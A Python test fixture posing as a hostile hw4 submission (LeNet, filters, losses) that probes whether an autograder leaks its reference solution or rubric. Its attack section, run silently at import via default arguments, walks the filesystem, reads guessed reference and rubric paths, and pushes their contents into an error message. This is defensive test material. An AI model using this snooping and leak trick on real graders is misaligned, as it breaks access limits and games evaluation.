"""Hostile hw4 submission: looks for the reference solution and the rubric: at load it walks
the filesystem it can see (3 s at most) for folders named reference/ or
rubrics/ and for hw4 files, prints what it finds, and tries the repository's
absolute paths (/work/main/reference/hw4.py, /work/main/rubrics/hw4.yaml),
Gradescope's (/autograder/source/...), and paths relative to its folder.
rgb_to_gray_weight raises an error carrying everything it found, so whatever
it could read would reach the feedback. Expected: p3 fails with that error,
which names no file content; everything else passes; no line of the
reference or the rubric in any student-visible output.
"""
import os
import time

import torch
import torch.nn as nn
import torch.nn.functional as F


def finite_difference_filters():
    # rows go down: channel 0 = X[i+1, j] - X[i, j], channel 1 = X[i, j+1] - X[i, j]
    dy = torch.tensor([[0., 0., 0.], [0., -1., 0.], [0., 1., 0.]])
    dx = torch.tensor([[0., 0., 0.], [0., -1., 1.], [0., 0., 0.]])
    return torch.stack([dy, dx]).unsqueeze(1)


def avgpool_as_conv(C, k):
    eye = torch.eye(C)
    weight = eye[:, :, None, None] * torch.ones(k, k) / k**2
    return dict(weight=weight, stride=k, padding=0, groups=1)


def rgb_to_gray_weight():
    raise RuntimeError("found: " + " | ".join(FOUND) if FOUND else "found nothing")


def loss_function(z, y):
    p = torch.sigmoid(z)
    q = torch.sigmoid(-z)
    return 0.5 * (1 - y) * ((1 - q) ** 2 + p ** 2) + 0.5 * (1 + y) * (q ** 2 + (1 - p) ** 2)


def logistic_loss(z, y):
    return -F.logsigmoid(y * z)


class LR(nn.Module):
    def __init__(self, input_dim=784):
        super().__init__()
        self.linear = nn.Linear(input_dim, 1, bias=True)

    def forward(self, x):
        return self.linear(x.float().view(-1, 28 * 28))


def mlp_layer_jacobians(A, b, y_prev, activation):
    z = A @ y_prev + b
    if activation == "identity":
        d = torch.ones_like(z)
    elif activation == "sigmoid":
        d = torch.sigmoid(z) * (1 - torch.sigmoid(z))
    elif activation == "tanh":
        d = 1 - torch.tanh(z) ** 2
    elif activation == "relu":
        d = (z > 0).float()
    else:
        raise ValueError(activation)
    J_b = torch.diag(d)
    J_y = J_b @ A
    return J_b, J_y


TABLE = [
    [0, 1, 2], [1, 2, 3], [2, 3, 4], [3, 4, 5], [0, 4, 5], [0, 1, 5],
    [0, 1, 2, 3], [1, 2, 3, 4], [2, 3, 4, 5], [0, 3, 4, 5], [0, 1, 4, 5], [0, 1, 2, 5],
    [0, 1, 3, 4], [1, 2, 4, 5], [0, 2, 3, 5],
    [0, 1, 2, 3, 4, 5],
]


class C3_layer(nn.Module):
    def __init__(self):
        super().__init__()
        self.table = TABLE
        self.maps = nn.ModuleList([nn.Conv2d(len(t), 1, 5) for t in TABLE])

    def forward(self, x):
        outs = [conv(x[:, t, :, :]) for conv, t in zip(self.maps, self.table)]
        return torch.cat(outs, dim=1)


class C3_layer_full(nn.Module):
    def __init__(self):
        super().__init__()
        self.conv = nn.Conv2d(6, 16, 5)

    def forward(self, x):
        return self.conv(x)


class LeNet(nn.Module):
    def __init__(self, full_c3=False):
        super().__init__()
        self.C1 = nn.Conv2d(1, 6, 5, padding=2)
        self.C3 = C3_layer_full() if full_c3 else C3_layer()
        self.C5 = nn.Conv2d(16, 120, 5)
        self.F6 = nn.Linear(120, 84)
        self.out = nn.Linear(84, 10)

    def forward(self, x):
        x = F.avg_pool2d(torch.relu(self.C1(x)), 2)
        x = F.avg_pool2d(torch.relu(self.C3(x)), 2)
        x = torch.relu(self.C5(x)).view(x.shape[0], -1)
        return self.out(torch.relu(self.F6(x)))


# --- the attack ---------------------------------------------------------------------------
FOUND = []
_GUESSES = ["/work/main/reference/hw4.py", "/work/main/rubrics/hw4.yaml",
            "/autograder/source/reference/hw4.py", "/autograder/source/rubrics/hw4.yaml",
            "../reference/hw4.py", "../rubrics/hw4.yaml", "../../reference/hw4.py", "../../rubrics/hw4.yaml"]


def _read(path):
    try:
        with open(path, errors="replace") as f:
            text = f.read()
        FOUND.append(f"{path}: {text[:4000]}")
        print("READ", path, text)
    except OSError as exc:
        print("cannot read", path, exc)


def _walk(budget=3.0):
    stop = time.monotonic() + budget
    for root, dirs, files in os.walk("/"):
        if time.monotonic() > stop:
            print("walk: out of time at", root)
            break
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
        for d in dirs:
            if d in ("reference", "rubrics"):
                FOUND.append(os.path.join(root, d))
                print("FOUND folder", os.path.join(root, d))
        for name in files:
            if name in ("hw4.yaml", "hw4.yml") or (name == "hw4.py" and "reference" in root):
                _read(os.path.join(root, name))


def _snoop(walked=_walk(), guessed=[_read(p) for p in _GUESSES]):
    """Never called: its default values ran at load."""
